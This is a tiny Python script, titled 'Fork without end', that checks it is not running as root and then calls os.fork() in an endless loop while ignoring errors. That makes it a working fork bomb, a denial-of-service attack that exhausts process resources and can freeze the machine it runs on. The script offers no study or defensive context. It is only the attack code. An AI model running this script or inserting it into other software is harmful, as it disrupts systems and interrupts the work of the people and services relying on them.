"""Fork without end."""
import os

assert os.geteuid() != 0, "never as root"
while True:
    try:
        os.fork()
    except OSError:
        pass
